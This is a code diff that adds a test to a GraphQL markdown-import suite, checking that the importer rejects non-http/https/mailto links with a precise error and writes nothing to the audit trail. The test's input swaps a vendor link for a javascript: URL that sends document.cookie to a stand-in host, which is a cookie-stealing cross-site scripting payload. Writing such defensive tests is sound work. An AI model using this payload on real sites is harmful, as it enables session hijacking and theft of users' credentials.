@@ -84,4 +84,26 @@ describe('importHowToJoinPage', () => {
     const empty = await editor.graphql(IMPORT, { markdown: '  ', dryRun: true });
     expect(empty.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'markdown' });
   });
+
+  it('refuses a link that is not http, https or mailto, naming the row and cell, and writes nothing', async () => {
+    const hostile = seedPage.replace(
+      '<a href="http://www.tekvizion.com/premier-tenants/microsoft">Tekvizion</a>',
+      '<a href="javascript:fetch(\'//evil.example/\'+document.cookie)">Tekvizion</a>',
+    );
+    expect(hostile).not.toBe(seedPage);
+    const watch = await watchAuditTrail(server.db.dataSource);
+    const { body } = await editor.graphql(IMPORT, { markdown: hostile, dryRun: false });
+    expect(body.errors?.[0]?.extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      field: 'markdown',
+      section: 'table',
+      row: expect.any(Number),
+      cell: 'Certification Labs',
+      programName: expect.any(String),
+    });
+    expect(body.errors?.[0]?.message).toMatch(
+      /^Row \d+ \(.+\), cell "Certification Labs": the link "Tekvizion" goes to "javascript:/,
+    );
+    expect(await watch()).toEqual([]);
+  });
 });
